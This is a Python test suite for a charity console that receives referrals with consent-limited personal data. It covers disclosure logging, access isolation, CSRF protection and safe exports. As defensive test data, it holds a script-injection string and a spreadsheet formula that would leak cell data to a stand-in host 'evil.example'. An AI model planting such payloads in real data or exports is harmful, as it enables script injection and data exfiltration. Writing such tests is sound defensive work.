"""A charity's inbox in the console, against a real server (SQLite and PostgreSQL) fed by a
real device: what it shows (only what an active consent covers, and nothing once the consent
is withdrawn), its answers syncing back to the device, every view and export logged, and
everything another organisation cannot reach."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from app.domain.codes import NeedStatus, ReferralStatus
from app.domain.records import Need, Referral
from app.services.households import Households
from app.ui.viewmodels.household import HouseholdVM
from app.ui.viewmodels.workspace import Workspace
from sync.server.console import accounts
from sync.server.services import referrals
from sync.server.services.organisations import OrganisationInput, add_organisation
from sync.server.tables import DisclosureEntry
from tests.console.conftest import OTHER_TOWNSHIP, TOWNSHIP, browser, csrf_of, log_in
from tests.console.referring import D, people, refer, withdraw
from tests.sync.conftest import make_device

__all__ = ["make_device"]

ICON = Path(__file__).resolve().parents[2] / "assets" / "icons" / "icon.png"
DATA_LABELS = {
    "姓名": "identity",
    "性别": "identity",
    "年龄": "identity",
    "电话": "contact",
    "住址": "contact",
    "身份证号": "id_number",
    "救助类别": "assistance",
    "健康状况": "health",
    "需求": "needs",
}
SHOWN = re.compile(r"<dt>([^<（]+)(?:（[^<]*）)?</dt><dd>")


@pytest.fixture
def device(make_device, county):  # type: ignore[no-untyped-def]
    made = make_device(areas=[TOWNSHIP])
    made.sync()
    return made


@pytest.fixture
def other_charity(ctx, server):  # type: ignore[no-untyped-def]
    """A second organisation with an account of its own, signed in."""
    org = add_organisation(
        ctx,
        OrganisationInput(
            "金东区社工服务中心", "social_work", "52330703MJ00000008", ["330703"], []
        ),
    )
    accounts.add_account(
        ctx,
        username="other-charity",
        name="别家机构",
        role="charity",
        password="correct horse 42",
        organisation=org.id,
    )
    client = browser(server)
    assert log_in(client, "other-charity").status_code == 303
    yield org
    client.close()


def disclosures(ctx) -> list[DisclosureEntry]:  # type: ignore[no-untyped-def]
    with ctx.db.reading() as s:
        return list(s.exec(select(DisclosureEntry).order_by(DisclosureEntry.id)))


def shown_categories(html: str) -> set[str]:
    """The data categories of the person's lines on a referral's page."""
    person = html.split("被转介人信息", 1)[1]
    return {DATA_LABELS[name] for name in SHOWN.findall(person) if name in DATA_LABELS}


def test_the_inbox_shows_only_what_the_consent_covers_and_logs_it(
    ctx, county, signed_in, device
) -> None:
    person = people(device)[0]
    referred = refer(
        device,
        person,
        county.organisation_id,
        named=(D.IDENTITY, D.CONTACT, D.NEEDS),
        consented=(D.IDENTITY, D.CONTACT, D.NEEDS, D.ID_NUMBER, D.HEALTH),
    )
    charity = signed_in["charity"]
    inbox = charity.get("/console/referrals")
    assert inbox.status_code == 200
    assert f"/console/referrals/{referred.referral.id}" in inbox.text
    assert person.name not in inbox.text  # the list names nobody
    assert disclosures(ctx) == []
    page = charity.get(f"/console/referrals/{referred.referral.id}")
    assert page.status_code == 200
    assert person.name in page.text
    assert "需要陪同就医" in page.text
    # Named (and consented): identity, contact, needs. The ID number and health are consented
    # but not named by the referral: neither shows.
    assert shown_categories(page.text) == {"identity", "contact", "needs"}
    assert "身份证号" not in page.text and "健康状况" not in page.text
    assert "<dd>救助帮扶转介</dd>" in page.text and "assistance_referral" not in page.text
    (logged,) = disclosures(ctx)
    assert set(logged.categories) == shown_categories(page.text)  # no more than the log says
    assert (logged.organisation_id, logged.person_id, logged.action, logged.purpose) == (
        county.organisation_id,
        person.id,
        "viewed",
        referred.referral.purpose,
    )
    assert logged.household_id == person.household_id


def test_accept_and_complete_sync_back_and_the_need_is_fulfilled_by_the_charity(
    ctx, county, signed_in, device
) -> None:
    referred = refer(device, people(device)[1], county.organisation_id)
    charity = signed_in["charity"]
    url = f"/console/referrals/{referred.referral.id}"
    token = csrf_of(charity.get(url).text)
    assert charity.post(f"{url}/accept", data={"csrf": token}).status_code == 303
    device.sync()
    with device.store.unit_of_work() as uow:
        got = uow.records.get(Referral, referred.referral.id)
    assert (got.status, got.answered_by, got.answered_on) == (
        ReferralStatus.ACCEPTED,
        "婺城区慈善总会",
        date.today(),
    )
    done_on = date.today() - timedelta(days=1)
    form = {
        "csrf": token,
        "service": "陪同就医两次，代缴挂号费",
        "service_on": done_on.isoformat(),
        "value_yuan": "260",
    }
    not_a_photo = {"photo": ("done.png", b"<html>not a photo</html>", "image/png")}
    refused = charity.post(f"{url}/complete", data=form, files=not_a_photo)
    assert refused.status_code == 422 and "JPEG 或 PNG" in refused.text
    picture = ICON.read_bytes()
    answer = charity.post(
        f"{url}/complete", data=form, files={"photo": ("done.png", picture, "image/png")}
    )
    assert answer.status_code == 303
    device.sync()
    with device.store.unit_of_work() as uow:
        got = uow.records.get(Referral, referred.referral.id)
        need = uow.records.get(Need, referred.need.id)
        assert got.outcome_photo_id is not None
        assert uow.photos.get(got.outcome_photo_id)[0] == picture  # downloaded by the device
    assert (got.status, got.service, got.service_on, got.value_yuan) == (
        ReferralStatus.COMPLETED,
        "陪同就医两次，代缴挂号费",
        done_on,
        260,
    )
    assert (need.status, need.resource, need.fulfilled_on, need.fulfilment_note) == (
        NeedStatus.FULFILLED,
        "婺城区慈善总会",
        done_on,
        "陪同就医两次，代缴挂号费",
    )
    page = charity.get(url).text
    assert "已完成" in page and "260 元" in page
    assert 'src="data:image/png;base64,' in page
    # A finished referral takes no more answers.
    again = charity.post(f"{url}/accept", data={"csrf": token})
    assert again.status_code == 422 and "不能从" in again.text


def test_declining_needs_a_reason_and_keeps_it(county, signed_in, device) -> None:
    referred = refer(device, people(device)[2], county.organisation_id)
    charity = signed_in["charity"]
    url = f"/console/referrals/{referred.referral.id}"
    token = csrf_of(charity.get(url).text)
    blank = charity.post(f"{url}/decline", data={"csrf": token, "reason": "  "})
    assert blank.status_code == 422 and "理由" in blank.text
    assert (
        charity.post(
            f"{url}/decline", data={"csrf": token, "reason": "超出本机构服务范围"}
        ).status_code
        == 303
    )
    device.sync()
    with device.store.unit_of_work() as uow:
        got = uow.records.get(Referral, referred.referral.id)
    assert (got.status, got.decline_reason) == (ReferralStatus.DECLINED, "超出本机构服务范围")


def test_a_withdrawal_from_a_device_hides_the_person_at_once(
    ctx, county, signed_in, device
) -> None:
    person = people(device)[3]
    referred = refer(device, person, county.organisation_id)
    charity = signed_in["charity"]
    url = f"/console/referrals/{referred.referral.id}"
    assert person.name in charity.get(url).text
    withdraw(device, referred)
    page = charity.get(url)
    assert page.status_code == 200  # the referral stays
    assert "同意已撤回" in page.text
    assert person.name not in page.text and "需要陪同就医" not in page.text
    assert "同意已撤回" in charity.get("/console/referrals").text
    export = charity.get("/console/referrals.csv").text
    assert person.name not in export and "同意已撤回" in export
    assert len(disclosures(ctx)) == 1  # the one view before the withdrawal; nothing since


def test_another_charity_reaches_nothing_it_was_not_sent(
    ctx, county, server, signed_in, device, other_charity
) -> None:
    person = people(device)[4]
    referred = refer(device, person, county.organisation_id)
    other = browser(server)
    assert log_in(other, "other-charity").status_code == 303
    url = f"/console/referrals/{referred.referral.id}"
    token = csrf_of(other.get("/console/referrals").text)
    assert other.get(url).status_code == 404
    for action in ("accept", "decline", "complete"):
        answer = other.post(f"{url}/{action}", data={"csrf": token, "reason": "x", "service": "x"})
        assert answer.status_code == 404
    # Guessing ids: a household's, a person's, a need's, a consent's read as absent too.
    for guess in (person.household_id, person.id, referred.need.id, referred.grant.id, "1"):
        assert other.get(f"/console/referrals/{guess}").status_code == 404
    assert other.get(f"/console/households/{person.household_id}").status_code == 403
    assert referred.referral.id not in other.get("/console/referrals").text
    for export in ("/console/referrals.csv", "/console/referrals.xlsx"):
        body = other.get(export)
        assert body.status_code == 200
        assert referred.referral.id.encode() not in body.content
    assert disclosures(ctx) == []
    # The referral is untouched.
    page = signed_in["charity"].get(url)
    assert "已转介" in page.text
    other.close()


def test_every_new_form_needs_the_csrf_token(county, signed_in, device) -> None:
    referred = refer(device, people(device)[5], county.organisation_id)
    charity = signed_in["charity"]
    url = f"/console/referrals/{referred.referral.id}"
    for action, form in (
        ("accept", {}),
        ("decline", {"reason": "超出范围"}),
        ("complete", {"service": "送米", "service_on": date.today().isoformat()}),
    ):
        for token in (None, "forged-token"):
            data = dict(form) if token is None else {**form, "csrf": token}
            answer = charity.post(f"{url}/{action}", data=data)
            assert answer.status_code == 403 and "表单已失效" in answer.text
    assert "已转介" in charity.get(url).text


def test_script_in_what_a_device_wrote_renders_as_text(county, signed_in, device) -> None:
    script = "<script>alert('x')</script>"
    referred = refer(
        device,
        people(device)[6],
        county.organisation_id,
        address=f"岩头村{script}",
    )
    charity = signed_in["charity"]
    # (A purpose is chosen from the list now: the script rides in the address, which only
    # the referral's page shows.)
    assert script not in charity.get("/console/referrals").text
    html = charity.get(f"/console/referrals/{referred.referral.id}").text
    assert script not in html
    assert "&lt;script&gt;" in html


def test_exports_are_formula_safe_and_log_each_person(ctx, county, signed_in, device) -> None:
    formula = '=HYPERLINK("http://evil.example/"&A1,"点击")'
    first = refer(device, people(device)[7], county.organisation_id, address=formula)
    second = refer(
        device, people(device)[8], county.organisation_id, named=(D.NEEDS,), consented=(D.NEEDS,)
    )
    charity = signed_in["charity"]
    text = charity.get("/console/referrals.csv").text
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][0] == "转介编号"
    address = next(r for r in rows if r[0] == first.referral.id)[11]
    assert address == "'" + formula
    assert not any(cell.startswith("=") for row in rows for cell in row)
    book = load_workbook(io.BytesIO(charity.get("/console/referrals.xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert formula in [c.value for c in cells]
    logged = [(d.person_id, d.action, tuple(d.categories)) for d in disclosures(ctx)]
    for _ in range(2):  # one per export
        assert (first.person.id, "exported", ("contact", "identity", "needs")) in logged
        assert (second.person.id, "exported", ("needs",)) in logged
    assert len(logged) == 4


def test_the_share_log_on_the_household_page_and_by_organisation(
    ctx, county, signed_in, device
) -> None:
    referred = refer(device, people(device)[9], county.organisation_id)
    signed_in["charity"].get(f"/console/referrals/{referred.referral.id}")
    household = signed_in["supervisor"].get(f"/console/households/{referred.household.id}")
    assert household.status_code == 200
    share_log = household.text.split("共享记录", 1)[1]
    assert "婺城区慈善总会" in share_log and "查看" in share_log and "需求信息" in share_log
    tally = signed_in["supervisor"].get("/console/disclosures")
    assert "婺城区慈善总会" in tally.text
    lines = signed_in["supervisor"].get(f"/console/disclosures/{county.organisation_id}")
    assert lines.status_code == 200 and "救助帮扶转介" in lines.text  # the purpose, said
    assert signed_in["charity"].get("/console/disclosures").status_code == 403
    assert signed_in["coordinator"].get("/console/disclosures").status_code == 403


def test_a_referral_nobody_answers_is_flagged_to_the_coordinator(county, signed_in, device) -> None:
    late = refer(
        device,
        people(device)[10],
        county.organisation_id,
        referred_on=date.today() - timedelta(days=8),
    )
    fresh = refer(
        device,
        people(device)[11],
        county.organisation_id,
        referred_on=date.today() - timedelta(days=7),
    )
    page = signed_in["coordinator"].get("/console/referrals-unanswered")
    assert page.status_code == 200
    assert f"/console/households/{late.household.id}" in page.text
    assert f"/console/households/{fresh.household.id}" not in page.text or (
        late.household.id == fresh.household.id
    )
    assert "婺城区慈善总会" in page.text
    inbox = signed_in["charity"].get("/console/referrals").text
    assert "逾期未答复" in inbox
    assert signed_in["charity"].get("/console/referrals-unanswered").status_code == 403


def test_the_inbox_pages_newest_first(county, signed_in, device, monkeypatch) -> None:
    monkeypatch.setattr(referrals, "PER_PAGE", 2)
    made = [refer(device, p, county.organisation_id, sync=False) for p in people(device)[:3]]
    device.sync()
    ids = [m.referral.id for m in made]
    charity = signed_in["charity"]
    first = charity.get("/console/referrals").text
    assert "共 3 条，第 1 / 2 页" in first and "/console/referrals?page=2" in first
    assert [i for i in ids if i in first] == ids[1:]  # the two pushed last
    second = charity.get("/console/referrals?page=2").text
    assert [i for i in ids if i in second] == ids[:1]
    assert ids[0] in charity.get("/console/referrals?page=9").text  # past the end: the last
    assert charity.get("/console/referrals?page=0").status_code == 422


def test_the_inbox_lists_the_waiting_first_longest_waiting_on_top(
    county, signed_in, device
) -> None:
    """Pushed out of date order (as the demo's were): the unanswered come first, oldest
    first; the answered after them, newest referred first."""
    today = date.today()
    ago = [270, 86, 245, 40, 200]  # days before today, in the order they are pushed
    made = [
        refer(device, p, county.organisation_id, referred_on=today - timedelta(days=d), sync=False)
        for p, d in zip(people(device)[:5], ago, strict=True)
    ]
    device.sync()
    charity = signed_in["charity"]
    for answered in (made[1], made[4]):  # 86 and 200 days ago
        url = f"/console/referrals/{answered.referral.id}"
        token = csrf_of(charity.get(url).text)
        assert charity.post(f"{url}/accept", data={"csrf": token}).status_code == 303
    page = charity.get("/console/referrals").text
    shown = sorted((page.index(m.referral.id), m) for m in made)
    days = [(today - m.referral.referred_on).days for _, m in shown]
    assert days == [270, 245, 40, 86, 200]


def test_the_export_links_are_outline_buttons(signed_in) -> None:
    """`a.button.secondary` gets the outline rule, not only `button.secondary`."""
    charity = signed_in["charity"]
    page = charity.get("/console/referrals").text
    links = re.findall(r'<a class="([^"]*)" href="/console/referrals\.(?:xlsx|csv)">', page)
    assert links == ["button secondary", "button secondary"]
    css = charity.get("/console/static/console.css").text
    rules = dict(re.findall(r"^([^{}\n]+?)\s*\{([^}]*)\}", css, re.MULTILINE))
    outline = [body for selectors, body in rules.items() if ".button.secondary" in selectors]
    assert len(outline) == 1 and "background: #fff" in outline[0] and "border: 1px" in outline[0]


def test_the_share_log_reaches_the_devices_in_scope_only(
    county, signed_in, device, make_device
) -> None:
    person = people(device)[9]
    referred = refer(device, person, county.organisation_id)
    signed_in["charity"].get(f"/console/referrals/{referred.referral.id}")
    signed_in["charity"].get("/console/referrals.csv")
    device.sync()
    shares = Households(device.store).county_shares(referred.household.id)
    assert [(s.organisation, s.action, s.person_id) for s in shares] == [
        ("婺城区慈善总会", "exported", person.id),  # newest first
        ("婺城区慈善总会", "viewed", person.id),
    ]
    assert set(shares[1].data_categories) == {"identity", "contact", "needs"}
    (line, _) = HouseholdVM(
        Workspace(device.sandbox, device.store), person.household_id
    ).share_lines()
    assert (line.day, line.person, line.organisation, line.action) == (
        date.today().isoformat(),
        person.name,
        "婺城区慈善总会",
        "导出",
    )
    assert "身份信息" in line.categories and line.purpose == "救助帮扶转介"
    elsewhere = make_device(areas=[OTHER_TOWNSHIP])
    elsewhere.sync()
    with elsewhere.store.unit_of_work() as uow:
        assert uow.county_shares.all() == []
